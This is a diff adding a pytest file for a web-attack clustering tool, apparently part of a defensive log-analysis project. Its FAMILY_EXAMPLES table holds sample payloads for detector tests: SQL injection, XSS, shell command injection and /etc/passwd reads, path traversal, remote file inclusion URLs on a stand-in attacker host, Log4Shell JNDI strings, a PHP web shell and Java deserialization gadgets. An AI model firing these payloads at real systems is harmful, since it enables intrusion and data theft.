@@ -1,0 +1,107 @@
+"""The payload view: attack token classes, and clusters that separate families that differ only in payload."""
+
+from collections import Counter
+from urllib.parse import quote
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from sklearn.metrics import adjusted_rand_score
+
+from clustering.payload_view import normalise, tokens
+from clustering.run import ClusterOptions, cluster_sessions
+from data.sessionize import update_derived
+from data.synthetic_neutral import NEUTRAL_CAMPAIGNS, generate_neutral_traffic
+from tests.data.helpers import campaign_of_sessions, fresh_db, ingest
+
+FAMILY_EXAMPLES = {
+    "sql": ["1' UNION SELECT NULL,@@version-- -", "admin' or '1'='1", "1 AND SLEEP(5)#"],
+    "html": ["<script>alert(1)</script>", "<img src=x onerror=prompt(document.cookie)>", "<svg/onload=confirm(1)>"],
+    "shell": [";cat /etc/passwd", "| whoami", "`id`", "$(uname -a)"],
+    "traversal": ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//proc/self/environ%00"],
+    "url": ["http://198.51.100.23/shell.txt?", "ftp://203.0.113.7/x.txt", "//attacker.example/c99.txt?"],
+    "template": ["${jndi:ldap://x.example/a}", "${${lower:j}ndi:rmi://x/a}", "{{7*7}}", "#{7*7}"],
+    "php": ["<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php",
+            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "phpinfo()"],
+    "java": ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "aced00057372", "T(java.lang.Runtime).getRuntime().exec('id')",
+             "org.apache.commons.collections.functors.InvokerTransformer"],
+}
+
+
+@pytest.mark.parametrize("cls", sorted(FAMILY_EXAMPLES))
+def test_each_class_is_named_by_its_payloads(cls):
+    for payload in FAMILY_EXAMPLES[cls]:
+        found = Counter(t.split(":", 1)[0] for t in tokens(payload))
+        assert found[cls] > 0, (payload, found)
+
+
+@pytest.mark.parametrize("text", ["/product/1234", "/search?q=waterproof jacket&page=2", "/static/css/main.3f9a1c.css",
+                                  "/blog/how-to-layer-for-winter-hikes", "/presentations/logstash-monitorama-2013/"])
+def test_ordinary_targets_carry_no_tokens(text):
+    assert tokens(text) == []
+
+
+def test_nested_encodings_digits_and_quotes_read_alike():
+    plain = "../../etc/passwd"
+    assert tokens(quote(quote(plain, safe=""), safe="")) == tokens(plain)           # double percent-encoded
+    assert tokens("%u002e%u002e/%u002e%u002e/etc/passwd") == tokens(plain)
+    assert tokens("&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;") == tokens("<script>alert(1)</script>")
+    assert tokens("\\x3cscript\\x3e") == tokens("<script>")
+    assert normalise("1' OR 0x41=0x41 AND \"7\"=\"7") == normalise("1' or 0x1f=0x1f and '9'='9")
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(alphabet=st.characters(blacklist_characters="%&\\", blacklist_categories=("Cs",)), max_size=60))
+def test_percent_encoding_never_changes_the_tokens(text):
+    assert tokens(quote(text, safe="")) == tokens(text)
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.text(max_size=200))
+def test_hostile_text_always_tokenizes(text):
+    assert all(isinstance(t, str) and ":" in t for t in tokens(text))
+
+
+def _clustered(tmp_path, **options):
+    log = tmp_path / "neutral.log"
+    generate_neutral_traffic(log, options.pop("n", 12_000), options.pop("seed", 7), **options)
+    con = fresh_db(tmp_path)
+    ingest(con, log)
+    update_derived(con)
+    run = cluster_sessions(con, ClusterOptions(min_cluster_size=5))
+    clusters = dict(con.execute("SELECT session_id, cluster_id FROM session_clusters WHERE cluster_run_id = $r",
+                                {"r": run.cluster_run_id}).fetchall())
+    return campaign_of_sessions(con, log), clusters
+
+
+def _f1(campaign, clusters, name):
+    members = {s for s in campaign if campaign[s] == name}
+    best = 0.0
+    for cid in set(clusters.values()) - {-1}:
+        cluster = {s for s, c in clusters.items() if c == cid}
+        best = max(best, 2 * len(cluster & members) / (len(cluster) + len(members)))
+    return best
+
+
+def test_families_that_behave_alike_separate_by_payload(tmp_path, shared_datasets):
+    """Issue C2: on main all eight families fell into one cluster (ARI 0.00, worst F1 0.22)."""
+    campaign, clusters = _clustered(tmp_path, shared_dir=shared_datasets)
+    attack = [s for s in campaign if campaign[s] != "benign"]
+    ari = adjusted_rand_score([campaign[s] for s in attack], [clusters.get(s, -2) for s in attack])
+    assert ari >= 0.85, ari
+    for name in NEUTRAL_CAMPAIGNS:  # one tool running one family is one cluster, whatever its agents and pace
+        assert _f1(campaign, clusters, name) >= 0.85, name   # scanners too: they mix families, but alike
+    benign = [s for s in campaign if campaign[s] == "benign"]
+    by_cluster = Counter(clusters.get(s, -1) for s in benign)
+    attack_clusters = {c for c in set(clusters.values()) - {-1}
+                       if Counter(campaign[s] for s in clusters if clusters[s] == c).most_common(1)[0][0] != "benign"}
+    assert sum(by_cluster[c] for c in attack_clusters) <= 0.01 * len(benign)
+
+
+def test_families_separate_over_real_benign_traffic(tmp_path, shared_datasets):
+    campaign, clusters = _clustered(tmp_path, background="real", shared_dir=shared_datasets)
+    attack = [s for s in campaign if campaign[s] != "benign"]
+    ari = adjusted_rand_score([campaign[s] for s in attack], [clusters.get(s, -2) for s in attack])
+    assert ari >= 0.85, ari
+    for name in NEUTRAL_CAMPAIGNS:
+        assert _f1(campaign, clusters, name) >= 0.85, name
